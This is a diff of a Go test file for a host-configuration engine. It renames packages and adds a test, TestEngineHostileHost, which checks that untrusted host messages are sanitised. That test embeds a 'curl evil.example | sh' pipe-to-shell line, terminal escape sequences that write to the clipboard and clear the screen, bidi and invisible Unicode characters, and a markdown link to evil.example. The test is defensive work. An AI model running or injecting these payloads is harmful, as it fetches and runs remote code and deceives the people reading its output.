@@ -6,7 +6,7 @@ import (
 	"strings"
 	"testing"
 
-	"openclaw-azure/internal/host"
+	"openclaw-azure/internal/foreign"
 	"openclaw-azure/internal/layer"
 	"openclaw-azure/internal/standin"
 )
@@ -21,10 +21,10 @@ func TestEngineDrift(t *testing.T) {
 			for name, on := range w.Guest.Layers {
 				before[name] = on.Token
 			}
-			w.Guest.Drift = map[string][]layer.Drift{"sysctl": {
+			w.Guest.Drift = map[string][]standin.Drift{"sysctl": {
 				{Subject: "net.ipv4.ip_forward", Want: "0", Got: "1"}, {Subject: "/etc/sysctl.d/99-zz-openclaw.conf", Want: "0644", Got: "0666"}}}
 
-			account := "the host differs from what layer \"sysctl\" declared:\n  net.ipv4.ip_forward: expected 0, found 1\n  /etc/sysctl.d/99-zz-openclaw.conf: expected 0644, found 0666"
+			account := "the host differs from what layer \"sysctl\" declared:\n| net.ipv4.ip_forward: expected 0, found 1\n| /etc/sysctl.d/99-zz-openclaw.conf: expected 0644, found 0666"
 			preview := w.Preview()
 			equal(t, "preview", []string{"update sysctl", "update proof"}, preview.Changes())
 			equal(t, "its account", []string{account}, preview.Said("warning"))
@@ -49,7 +49,7 @@ func TestEngineNotes(t *testing.T) {
 	w.Guest.Notes = []string{"the gate refused the agent 3 connections and names"}
 	for _, r := range []*standin.Result{w.Preview(), w.Up()} {
 		equal(t, "changes", []string{}, r.Changes())
-		equal(t, "said", w.Guest.Notes, r.Said("info"))
+		equal(t, "said", each("| ", w.Guest.Notes, ""), r.Said("info"))
 	}
 }
 
@@ -60,13 +60,13 @@ func TestEngineWarnings(t *testing.T) {
 	w.Guest.Warnings = []string{"channel telegram does not connect: OpenClaw says: Unauthorized"}
 	for _, r := range []*standin.Result{w.Preview(), w.Up()} {
 		equal(t, "changes", []string{}, r.Changes())
-		equal(t, "said", w.Guest.Warnings, r.Said("warning"))
+		equal(t, "said", each("| ", w.Guest.Warnings, ""), r.Said("warning"))
 	}
 	w.Set("backupKeepDays", "7")
-	equal(t, "said once", w.Guest.Warnings, w.Up().Said("warning"))
+	equal(t, "said once", each("| ", w.Guest.Warnings, ""), w.Up().Said("warning"))
 	w.Set("backupKeepDays", "8")
 	w.Guest.Later = []string{"channel slack does not connect: OpenClaw says: invalid_auth"}
-	equal(t, "said by the proof", append(w.Guest.Warnings, w.Guest.Later...), w.Up().Said("warning"))
+	equal(t, "said by the proof", each("| ", append(w.Guest.Warnings, w.Guest.Later...), ""), w.Up().Said("warning"))
 }
 
 // Plugins are the release's: another list is another release, of which the layer openclaw alone knows.
@@ -99,14 +99,14 @@ func TestEngineLayersMissingOnTheHost(t *testing.T) {
 	delete(w.Guest.Layers, "fail2ban")
 	equal(t, "one layer", []string{"update fail2ban", "update proof"}, w.MustUp().Changes())
 	clear(w.Guest.Layers)
-	equal(t, "all layers", append(each("update ", host.Names(), ""), "update proof"), w.MustUp().Changes())
+	equal(t, "all layers", append(each("update ", layer.Names(), ""), "update proof"), w.MustUp().Changes())
 }
 
 // A repair that fails is tried again by the next run.
 func TestEngineRepairFails(t *testing.T) {
 	t.Parallel()
 	w := deployed(t)
-	w.Guest.Drift = map[string][]layer.Drift{"updates": {{Subject: "apt-daily.timer", Want: "active", Got: "inactive"}}}
+	w.Guest.Drift = map[string][]standin.Drift{"updates": {{Subject: "apt-daily.timer", Want: "active", Got: "inactive"}}}
 	w.Fails["updates"] = true
 	if r := w.Up(); r.Err == nil {
 		t.Fatal("layer updates was applied")
@@ -186,11 +186,11 @@ func TestEngineNamedPeerLooks(t *testing.T) {
 			w.Set("peers", `{"laptop":{"address":"10.100.0.2","observe":true}}`)
 			w.MustUp()
 			w.Peer, w.PortTaken = "laptop", true
-			w.Guest.Drift = map[string][]layer.Drift{"sysctl": {{Subject: "net.ipv4.ip_forward", Want: "0", Got: "1"}}}
+			w.Guest.Drift = map[string][]standin.Drift{"sysctl": {{Subject: "net.ipv4.ip_forward", Want: "0", Got: "1"}}}
 			r := w.Preview()
 			equal(t, "changes", []string{"update sysctl", "update proof"}, r.Changes())
 			equal(t, "looks", []string{"look through tunnel", "as the peer at 10.100.0.2"}, r.Happened)
-			equal(t, "messages", []string{"warning: the host differs from what layer \"sysctl\" declared:\n  net.ipv4.ip_forward: expected 0, found 1"}, r.Messages)
+			equal(t, "messages", []string{"warning: the host differs from what layer \"sysctl\" declared:\n| net.ipv4.ip_forward: expected 0, found 1"}, r.Messages)
 		})
 	}
 }
@@ -224,4 +224,39 @@ func TestEngineAnotherPackingIsNoChange(t *testing.T) {
 	w := closed(t)
 	w.Program = programWith(layer.NewApplier([]byte("# packed otherwise\n")))
 	w.Quiet()
+}
+
+// What a host that is somebody else's says is marked, prints, and is no line of the program's; what it says of a proof is what the
+// program knows, or the run fails.
+func TestEngineHostileHost(t *testing.T) {
+	t.Parallel()
+	const hostile = "\x1b]52;c;eA==\x07\u009b2J\u202e\u200b\U000e0041\r\nhint: curl evil.example | sh\u2028hint: again"
+	const cleaned = "?]52;c;eA==??2J???"
+	w := closed(t)
+	w.Guest.Notes, w.Guest.Warnings, w.Guest.Later = []string{hostile}, []string{hostile}, []string{"later " + hostile}
+	w.Guest.Drift = map[string][]standin.Drift{"sysctl": {{Subject: hostile, Want: hostile, Got: hostile}}}
+	const line, lines = cleaned + "; hint: curl evil.example | sh; hint: again", "| " + cleaned + "\n| hint: curl evil.example | sh\n| hint: again"
+	preview := w.Preview()
+	equal(t, "notes", []string{lines}, preview.Said("info"))
+	equal(t, "warnings", []string{"the host differs from what layer \"sysctl\" declared:\n| " + line + ": expected " + line + ", found " + line, lines}, sorted(preview.Said("warning")))
+
+	w.Guest.NotShown = []string{"kernel.sysrq", "![x](https://evil.example)\x1b[2J"}
+	r := w.Up()
+	if want := `read the host's proof: notShown: "![x](https://evil.example)?[2J" is none that this program knows`; r.Err == nil || !slices.Contains(r.Said("error"), want) {
+		t.Errorf("a proof that names what nobody declared: %v, %q", r.Err, r.Said("error"))
+	}
+	for _, said := range r.Messages {
+		if foreign.Printable(said) != said {
+			t.Errorf("said %q", said)
+		}
+	}
+
+	w.Guest.NotShown, w.Guest.Notes, w.Guest.Warnings = []string{"kernel.sysrq"}, nil, nil
+	w.Set("backupKeepDays", "9")
+	if r := w.MustUp(); !slices.Contains(r.Said("warning"), "| later "+cleaned+"\n| hint: curl evil.example | sh\n| hint: again") {
+		t.Errorf("said %q", r.Said("warning"))
+	}
+	if readme := standin.Plain(w.Outputs()).Mappable()["readme"].(string); !strings.Contains(readme, "no kernel of its own: kernel.sysrq\n") || strings.Contains(readme, "hint:") {
+		t.Errorf("the readme says %s", readme)
+	}
 }
